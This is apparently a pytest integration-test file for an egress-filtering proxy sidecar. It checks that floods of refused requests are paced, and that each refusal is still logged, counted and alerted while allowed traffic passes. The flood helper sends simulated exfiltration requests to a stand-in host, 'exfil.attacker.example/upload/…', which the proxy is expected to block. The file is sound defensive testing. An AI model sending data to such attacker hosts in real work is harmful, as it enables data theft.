"""A refusal flood is paced (issue 10), and every refusal is still logged, counted and
alerted (S9): the real process, raw keep-alive HTTP/1.1 clients, no timing assertions."""

from __future__ import annotations

import socket
import ssl
import threading
import time

import httpx

from tests.integration.test_explicit_proxy import _counter
from tests.support.sidecar import SidecarProcess

FLOOD_HOST = "exfil.attacker.example"
CONNECTIONS = 12
PER_CONNECTION = 8  # 96 refusals: beyond the burst of a 10/s rate (20 + 1)


def _flood_one_connection(proxy: tuple[str, int], statuses: list[str]) -> None:
    with socket.create_connection(proxy, timeout=30) as sock:
        reader = sock.makefile("rb")
        for i in range(PER_CONNECTION):
            sock.sendall(
                f"GET http://{FLOOD_HOST}/upload/{i} HTTP/1.1\r\n"
                f"Host: {FLOOD_HOST}\r\n\r\n".encode()
            )
            status = reader.readline().decode().strip()
            length = 0
            while (line := reader.readline()) not in (b"\r\n", b""):
                name, _, value = line.decode().partition(":")
                if name.lower() == "content-length":
                    length = int(value)
                if name.lower() == "x-egress-sidecar-reason":
                    status += " " + value.strip()
            reader.read(length)
            statuses.append(status)


def test_refusal_flood_is_paced_and_every_refusal_still_logged_counted_and_answered(
    start_sidecar, provider
):
    sidecar: SidecarProcess = start_sidecar(extra_args=("--refusal-rate", "10"))
    host, port = sidecar.listener("explicit").rsplit(":", 1)
    before = _counter(sidecar.metrics(), "block", "host_not_allowed")
    alerted_before = _alerted(sidecar.metrics())
    statuses: list[str] = []
    threads = [
        threading.Thread(target=_flood_one_connection, args=((host, int(port)), statuses))
        for _ in range(CONNECTIONS)
    ]
    for t in threads:
        t.start()
    # Allowed traffic is never paced: a provider request in the middle of the flood.
    with httpx.Client(
        proxy=sidecar.proxy_url,
        timeout=30,
        verify=ssl.create_default_context(cafile=sidecar.ca_cert),
    ) as client:
        allowed = client.get(f"https://api.openai.com:{provider.port}/v1/models")
    for t in threads:
        t.join(120)
    total = CONNECTIONS * PER_CONNECTION
    assert len(statuses) == total
    assert all(s.startswith("HTTP/1.1 403") and s.endswith("host_not_allowed") for s in statuses)
    assert allowed.status_code == 200
    # S9: one decision line and one metric increment per refusal, paced or not.
    deadline = time.monotonic() + 10  # the stdout reader thread may lag behind
    while True:
        refused = [d for d in list(sidecar.decisions) if d.get("host") == FLOOD_HOST]
        if len(refused) >= total or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    assert len(refused) == total
    assert {d["decision"] for d in refused} == {"block"}
    metrics = sidecar.metrics()
    assert _counter(metrics, "block", "host_not_allowed") - before == total
    assert _alerted(metrics) - alerted_before == total  # every refusal reached alerting
    paced = [
        line
        for line in metrics.splitlines()
        if line.startswith("egress_sidecar_refusals_paced_total ")
    ]
    assert paced and float(paced[0].split()[1]) > 0, paced


def _alerted(metrics: str) -> float:
    return sum(
        float(line.rsplit(" ", 1)[1])
        for line in metrics.splitlines()
        if line.startswith("egress_sidecar_alerts_refusals_total{")
    )


def test_refusal_rate_zero_turns_pacing_off(start_sidecar, provider):
    sidecar: SidecarProcess = start_sidecar(extra_args=("--refusal-rate", "0"))
    host, port = sidecar.listener("explicit").rsplit(":", 1)
    statuses: list[str] = []
    _flood_one_connection((host, int(port)), statuses)
    _flood_one_connection((host, int(port)), statuses)
    assert len(statuses) == 2 * PER_CONNECTION
    assert "egress_sidecar_refusals_paced_total 0.0" in sidecar.metrics()


def test_bad_refusal_rate_is_a_clear_error(tmp_path):
    import subprocess

    from tests.support.sidecar import BIN

    result = subprocess.run(
        [
            BIN,
            "run",
            "--refusal-rate",
            "fast",
            "--admin",
            "127.0.0.1:0",
            "--listen",
            "127.0.0.1:0",
            "--ca-dir",
            str(tmp_path / "ca"),
        ],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 64
    assert "--refusal-rate 'fast': not a number" in result.stderr
